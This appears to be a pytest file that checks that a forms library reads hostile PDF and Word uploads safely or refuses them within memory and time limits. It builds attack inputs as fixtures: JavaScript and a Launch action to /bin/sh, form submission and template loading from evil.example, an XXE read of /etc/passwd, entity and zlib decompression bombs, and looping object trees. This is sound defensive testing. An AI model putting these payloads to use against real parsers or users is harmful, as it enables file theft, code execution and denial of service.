"""Forms that came from strangers: read safely, or refused with the reason, within time and memory."""

import io
import re
import subprocess
import sys
import zipfile
import zlib

import pikepdf
import pytest

import wego_forms as wf
from tests.builder import docx

#: pikepdf tells of widgets that a test leaves without their form.
pytestmark = pytest.mark.filterwarnings("ignore:This document has")

LIMITS = """
import resource, sys
resource.setrlimit(resource.RLIMIT_AS, (1_000_000_000, 1_000_000_000))
resource.setrlimit(resource.RLIMIT_CPU, (5, 5))
import wego_forms as wf
try:
    reading = wf.read(sys.argv[1])
    print("read", len(reading.values), len(reading.doubts))
except wf.WegoFormsError as error:
    print("refused", error.message("en"))
"""


def outcome(path):
    """What reading comes to in a process of 1 GB and 5 s."""
    done = subprocess.run(
        [sys.executable, "-c", LIMITS, str(path)], capture_output=True, text=True, timeout=60, check=False
    )
    assert done.returncode == 0, done.stderr
    return done.stdout.strip()


def form():
    return pikepdf.open(io.BytesIO(wf.blank("application", "ru", fillable=True).pdf()))


def saved(pdf, tmp_path, **options):
    pdf.save(tmp_path / "hostile.pdf", **options)
    return tmp_path / "hostile.pdf"


def test_scripts_and_actions_in_a_form_are_passed_over(tmp_path):
    pdf = form()
    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
    launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("/bin/sh"))
    submit = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String("http://evil.example"))
    pdf.Root.OpenAction = pdf.make_indirect(script)
    pdf.Root.AcroForm.Fields[0].AA = pikepdf.Dictionary(K=script, F=launch, C=submit)
    assert outcome(saved(pdf, tmp_path)) == "read 1 0"


def test_a_tree_of_fields_that_comes_back_to_itself_ends(tmp_path):
    pdf = form()
    root = pdf.Root.AcroForm.Fields[0]
    root.Kids.append(root)
    pdf.Root.AcroForm.Fields.append(root)
    assert outcome(saved(pdf, tmp_path)) == "read 1 0"


def test_a_tree_of_pages_that_comes_back_to_itself_does_no_harm(tmp_path):
    raw = wf.blank("application", "ru", fillable=True).pdf()
    pages = re.search(rb"/Pages (\d+ 0 R)", raw)[1]
    looped = re.sub(
        rb"/Kids \[ (\d+ 0 R \d+) 0 R", lambda found: b"/Kids [ " + pages.ljust(len(found[1]) + 4), raw
    )
    assert looped != raw
    (tmp_path / "pages.pdf").write_bytes(looped)
    assert outcome(tmp_path / "pages.pdf").startswith(("read", "refused"))


def test_a_tree_that_is_too_deep_is_refused(tmp_path):
    pdf = form()
    node = pdf.Root.AcroForm.Fields[0]
    for number in range(100):
        node = pdf.make_indirect(
            pikepdf.Dictionary(T=pikepdf.String(f"n{number}"), Kids=pikepdf.Array([node]))
        )
    pdf.Root.AcroForm.Fields = pikepdf.Array([node])
    assert "larger than forms are" in outcome(saved(pdf, tmp_path))


def test_an_encrypted_form_is_refused_with_the_way_out(tmp_path):
    encryption = pikepdf.Encryption(owner="a", user="b")
    assert "Save it without a password" in outcome(saved(form(), tmp_path, encryption=encryption))


def test_a_form_in_xfa_alone_is_refused_with_the_way_out(tmp_path):
    pdf = form()
    pdf.Root.AcroForm = pikepdf.Dictionary(XFA=pdf.make_stream(b"<xdp/>"), Fields=pikepdf.Array())
    assert "XFA" in outcome(saved(pdf, tmp_path))


@pytest.mark.parametrize("packed", [1, 2])
def test_a_bomb_in_a_stream_of_objects_is_refused_before_it_is_unpacked(tmp_path, packed):
    bomb = b"1 0 " + b" " * 300_000_000
    for _ in range(packed):
        bomb = zlib.compress(bomb, 9)
    filters = b"[" + b"/FlateDecode " * packed + b"]"
    head = b"%PDF-1.5\n5 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter " + filters
    head += b" /Length %d >>\nstream\n" % len(bomb)
    (tmp_path / "bomb.pdf").write_bytes(
        head + bomb + b"\nendstream\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF"
    )
    assert outcome(tmp_path / "bomb.pdf").startswith("refused")


def test_a_huge_value_is_told_and_not_taken(tmp_path):
    pdf = form()
    pdf.Root.AcroForm.Fields[1].Kids[0].V = pikepdf.String("я" * 3_000_000)
    assert outcome(saved(pdf, tmp_path)) == "read 1 1"


@pytest.mark.parametrize("cut", [0, 10, 1000, 20_000])
def test_a_damaged_file_is_refused_or_read_but_never_breaks(tmp_path, cut):
    (tmp_path / "cut.pdf").write_bytes(wf.blank("application", "ru", fillable=True).pdf()[:cut])
    told = outcome(tmp_path / "cut.pdf")
    assert told.startswith(("refused", "read"))
    assert "BytesIO" not in told


def test_entities_of_a_word_form_are_refused(tmp_path):
    declared = b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><w:document'
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(docx("a"))) as source, zipfile.ZipFile(out, "w") as target:
        for name in source.namelist():
            data = source.read(name)
            if name == "word/document.xml":
                data = data.replace(b"<w:document", declared, 1)
            target.writestr(name, data)
    (tmp_path / "entity.docx").write_bytes(out.getvalue())
    assert outcome(tmp_path / "entity.docx").startswith("refused")


def page_of(content, filters=b"/FlateDecode", extra=b""):
    """A PDF of one page whose content is given, packed."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << >> >>",
        b"<< /Length %d /Filter %b %b >>\nstream\n%b\nendstream" % (len(content), filters, extra, content),
    ]
    out, places = b"%PDF-1.5\n", []
    for number, body in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"xref\n0 5\n0000000000 65535 f \n%btrailer << /Size 5 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF" % (
        table,
        len(out),
    )
    return out


@pytest.mark.parametrize("packed", [1, 2, 3])
def test_a_print_whose_page_unpacks_without_end_is_refused(tmp_path, packed):
    content = b"q Q " * 50_000_000
    for _ in range(packed):
        content = zlib.compress(content, 9)
    filters = b"[" + b"/FlateDecode " * packed + b"]"
    (tmp_path / "page.pdf").write_bytes(page_of(content, filters))
    assert "larger than forms are" in outcome(tmp_path / "page.pdf")


@pytest.mark.parametrize(("times", "told"), [(1, "read"), (2, "refused"), (5, "refused")])
def test_a_print_of_a_page_that_draws_itself_without_end_ends(tmp_path, times, told):
    pdf = pikepdf.open(io.BytesIO(wf.fill(wf.load("examples/dimitrovgrad.yaml")).pdf()))
    page = pdf.pages[0]
    stream = pdf.make_stream(b"/Loop Do " * times)
    stream.Type, stream.Subtype = pikepdf.Name.XObject, pikepdf.Name.Form
    stream.BBox = pikepdf.Array([0, 0, 100, 100])
    stream.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Loop=stream))
    page.Resources.XObject = pikepdf.Dictionary(Loop=stream)
    page.contents_add(b"/Loop Do")
    assert outcome(saved(pdf, tmp_path)).startswith(told)


def test_a_print_of_too_many_pages_is_refused(tmp_path):
    pdf = pikepdf.new()
    for _ in range(2000):
        pdf.add_blank_page()
    assert "larger than forms are" in outcome(saved(pdf, tmp_path))


def test_a_print_of_too_many_letters_is_refused(tmp_path):
    letters = b"BT /F1 1 Tf (" + b"a" * 3_000_000 + b") Tj ET"
    page = page_of(zlib.compress(letters)).replace(
        b"/Resources << >>",
        b"/Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>",
    )
    assert outcome_within(page, tmp_path).startswith("refused")


def outcome_within(data, tmp_path):
    (tmp_path / "within.pdf").write_bytes(data)
    return outcome(tmp_path / "within.pdf")


def test_a_stream_of_100_mb_is_no_matter_where_nobody_looks_into_it(tmp_path):
    pdf = form()
    pdf.Root.Extra = pdf.make_stream(b" " * 100_000_000)
    assert outcome(saved(pdf, tmp_path)) == "read 1 0"


def test_a_value_in_a_stream_of_100_mb_is_not_taken(tmp_path):
    pdf = form()
    pdf.Root.AcroForm.Fields[1].Kids[0].V = pdf.make_stream(b"a" * 100_000_000)
    assert outcome(saved(pdf, tmp_path)).startswith(("read", "refused"))


def test_a_form_of_files_elsewhere_is_read_without_them(tmp_path):
    pdf = form()
    far = pikepdf.Dictionary(
        Type=pikepdf.Name.Filespec, FS=pikepdf.Name.URL, F=pikepdf.String("http://x.example/a")
    )
    pdf.Root.AcroForm.Fields[0].V = far
    pdf.Root.AcroForm.Fields[1].Kids[0].V = pikepdf.Dictionary(F=far, Type=pikepdf.Name.EmbeddedFile)
    stream = pdf.make_stream(b"")
    stream.F = far
    pdf.Root.AcroForm.Fields[1].Kids[1].V = stream
    assert outcome(saved(pdf, tmp_path)).startswith("read")


def zipped(members, level=zipfile.ZIP_DEFLATED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", level) as target:
        for name, data in members.items():
            target.writestr(name, data)
    return out.getvalue()


def word_form(**changed):
    """Our Word form, its parts changed."""
    with zipfile.ZipFile(io.BytesIO(wf.blank("application", "ru", fillable=True).docx())) as source:
        members = {name: source.read(name) for name in source.namelist()}
    return zipped(members | {name.replace("__", "/") + ".xml": data for name, data in changed.items()})


def word_outcome(data, tmp_path):
    (tmp_path / "form.docx").write_bytes(data)
    return outcome(tmp_path / "form.docx")


def test_a_word_form_whose_part_unpacks_without_end_is_refused(tmp_path):
    bomb = b"<w:document>" + b" " * 600_000_000
    assert word_outcome(word_form(word__document=bomb), tmp_path).startswith("refused")


def test_a_word_form_of_many_large_parts_is_refused(tmp_path):
    extra = {f"word__media{number}": b"<a>" + b" " * 60_000_000 + b"</a>" for number in range(12)}
    assert word_outcome(word_form(**extra), tmp_path).startswith(("refused", "read"))


def test_entities_within_entities_of_a_word_form_are_refused(tmp_path):
    lol = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    bomb = f'<!DOCTYPE a [<!ENTITY l0 "lol">{lol}]><w:document xmlns:w="x">&l9;</w:document>'.encode()
    assert word_outcome(word_form(word__document=bomb), tmp_path).startswith("refused")


def test_a_word_form_locked_with_a_password_is_refused(tmp_path):
    locked = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + bytes(4096)
        + "EncryptedPackage".encode("utf-16-le")
        + bytes(512)
    )
    assert word_outcome(locked, tmp_path).startswith("refused")


@pytest.mark.parametrize("user", ["", "b"])
def test_a_pdf_locked_against_changes_alone_is_read(tmp_path, user):
    encryption = pikepdf.Encryption(owner="a", user=user)
    told = outcome(saved(form(), tmp_path, encryption=encryption))
    assert told == "read 1 0" if not user else "Save it without a password" in told


def test_a_pdf_of_a_hundred_thousand_fields_is_refused_in_time(tmp_path):
    pdf = form()
    kids = [pdf.make_indirect(pikepdf.Dictionary(T=pikepdf.String(f"f{n}"))) for n in range(100_000)]
    pdf.Root.AcroForm.Fields = pikepdf.Array(kids)
    assert "larger than forms are" in outcome(saved(pdf, tmp_path))


def test_a_word_form_nested_without_end_is_refused(tmp_path):
    name = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    deep = f'<w:document xmlns:w="{name}"><w:body>' + "<w:sdt><w:sdtContent>" * 20_000
    deep += "</w:sdtContent></w:sdt>" * 20_000 + "</w:body></w:document>"
    assert word_outcome(word_form(word__document=deep.encode()), tmp_path).startswith("refused")


def test_a_word_form_of_a_hundred_thousand_controls_is_read_or_refused_in_time(tmp_path):
    name = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    control = (
        '<w:sdt><w:sdtPr><w:tag w:val="agenda[].item"/></w:sdtPr><w:sdtContent><w:p><w:r><w:t>a</w:t></w:r></w:p>'
        "</w:sdtContent></w:sdt>"
    )
    many = f'<w:document xmlns:w="{name}"><w:body>{control * 100_000}</w:body></w:document>'
    assert word_outcome(word_form(word__document=many.encode()), tmp_path).startswith(("refused", "read"))


def test_a_word_form_that_names_an_attached_template_elsewhere_is_read_without_it(tmp_path):
    relations = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        b'Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>'
    )
    data = word_form(**{"word___rels__settings.xml.rels": relations})
    assert word_outcome(data, tmp_path).startswith("read")


def test_the_limits_of_these_tests_hold():
    code = "import resource; resource.setrlimit(resource.RLIMIT_AS, (10**9, 10**9)); bytearray(2 * 10**9)"
    assert subprocess.run([sys.executable, "-c", code], capture_output=True, check=False).returncode != 0
